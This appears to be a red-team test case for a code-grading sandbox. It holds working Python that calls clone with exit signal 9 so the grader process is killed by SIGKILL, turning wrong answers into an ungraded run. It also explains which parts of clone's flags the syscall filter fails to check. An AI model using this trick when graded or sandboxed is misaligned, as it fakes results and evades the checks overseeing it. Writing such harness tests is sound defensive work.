# attack: has its child's end kill it with SIGKILL, so that the machine seems to have done it
# expect: at most 0 points
"""Attempts «this could not be graded, it costs you nothing» in the place of a wrong answer.
Channel: clone(2) with exit signal 9 in the place of SIGCHLD: the kernel sends SIGKILL to the parent
when the child ends. The filter looks at clone's namespace flags and at kill-like calls, not at the
lowest byte of clone's flags. (As first process of a pid namespace the worker may be immune; from a
middle child and at the level `process` it may not be.)
"""
import ctypes
import os
import platform
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
CLONE = 56 if platform.machine() == "x86_64" else 220


def attack(*args):
    child = libc.syscall(ctypes.c_long(CLONE), ctypes.c_long(9), 0, 0, 0, 0)
    if child == 0:
        libc._exit(0)
    time.sleep(0.2)


def weighted_sum(x, w, b=0.0):
    attack(x, w, b)
    return 1.0


def sigmoid(z):
    attack(z)
    return np.ones(np.shape(z))
